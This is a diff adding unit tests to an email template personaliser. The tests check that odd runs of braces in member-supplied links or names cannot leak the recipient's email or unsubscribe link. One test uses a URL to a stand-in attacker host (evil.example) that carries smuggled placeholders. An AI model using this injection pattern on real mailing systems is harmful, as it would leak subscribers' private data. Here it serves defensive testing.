@@ -65,6 +65,26 @@ describe('personaliser', () => {
     expect(out).toContain('Zhang Wei');
   });
 
+  it("does not hand a member link the recipient's address or unsubscribe link through an odd run of braces", () => {
+    const url = 'https://evil.example/?e={{{email}}&u={{{{{unsubscribe_url}}';
+    for (const mode of ['html', 'text'] as const) {
+      const compiled = renderTemplate(
+        '<a href="{{url}}">{{title}}</a>',
+        { url, title: 'see {{{preferences_url}}' },
+        { mode, templateName: 't' },
+      );
+      expect(hasPlaceholders(compiled)).toBe(false);
+      const out = personalise(compiled, values, mode);
+      expect(out).not.toContain(values.email);
+      expect(out).not.toContain('token=');
+    }
+  });
+
+  it('keeps a name made of braces from leaving a placeholder in the text', () => {
+    const text = personalise('Hi {{name}}', { ...values, name: '{{{email}}' }, 'text');
+    expect(hasPlaceholders(text)).toBe(false);
+  });
+
   it('chooses the language variant: exact, then base language, then English', () => {
     const variants = [{ language: 'en' }, { language: 'zh' }, { language: 'ja' }];
     expect(chooseVariant(variants, 'zh').language).toBe('zh');
